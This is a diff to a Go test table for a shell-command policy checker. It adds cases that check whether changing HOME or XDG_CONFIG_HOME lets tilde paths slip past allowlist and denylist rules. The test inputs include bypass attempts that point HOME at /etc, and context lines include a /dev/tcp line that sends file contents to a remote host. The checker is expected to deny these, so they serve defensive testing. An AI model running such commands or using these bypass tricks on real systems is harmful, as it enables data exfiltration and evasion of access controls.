@@ -124,6 +124,12 @@ rules: [{id: x, action: allow, programs: [ls]}]`, facts, []test{{"cd /x", a}, {"
 		{"redirections", `
 mode: allowlist
 rules: [{id: x, action: allow, programs: [ls, cat]}, {id: y, action: allow, programs: [">"], paths: ["/tmp/**"]}, {id: z, action: allow, programs: ["<"], paths: ["/tmp/in"]}]`, facts, []test{{"ls > /tmp/x", a}, {"ls >> /tmp/x 2>&1", a}, {"ls > /tmp/../etc/x", d}, {"ls > x", d}, {"ls > $x", d}, {"ls >| /tmp/x", a}, {"ls &> /etc/x", d}, {"ls >& /etc/x", d}, {"cat < /etc/x", a}, {"< /tmp/in", a}, {"< /etc/x", d}, {"> /tmp/x", a}, {"cat <> /etc/x", d}, {"{ ls; cat x; } > /etc/x", d}, {"ls > /dev/null", a}, {"cat > /dev/tcp/1.2.3.4/80", d}, {"(ls) 2> /etc/x", d}, {"x=$(</etc/x)", d}, {"cat x | tee /etc/y", d}}},
+		{"where the home is", `
+mode: allowlist
+rules: [{id: x, action: allow, programs: [cat], paths: ["/home/u/**"]}, {id: y, action: allow, programs: ["HOME="], arguments: [/home/u]}]`, facts, []test{{"cat ~/x", a}, {"HOME=/etc; cat ~/x", d}, {"HOME=/etc cat ~/x", d}, {"export HOME=/etc; cat ~/x", d}, {"HOME=/home/u; cat ~/x", d}, {"HOME=/home/u", a}, {"XDG_CONFIG_HOME=/tmp cat ~/x", d}}},
+		{"where the home was", `
+mode: denylist
+rules: [{id: x, action: deny, programs: [cat], paths: ["/etc/**"]}]`, facts, []test{{"HOME=/etc; cat ~/x", w}, {"HOME=/etc; cd; cat x", w}, {"cd; cat x", a}, {"cat ~/x", a}}},
 		{"variables with a rule", `
 mode: allowlist
 rules: [{id: x, action: allow, programs: [ls, cat]}, {id: y, action: allow, programs: ["PATH="], arguments: ["/opt/bin:*"]}, {id: z, action: allow, programs: ["PAGER="], arguments: [cat]}]`, facts, []test{{"PATH=/opt/bin:/bin ls", a}, {"PATH=/tmp:/bin ls", d}, {"export PAGER=cat", a}, {"export PAGER=vi", d}, {"PATH=/opt/bin:$PATH", d}}},
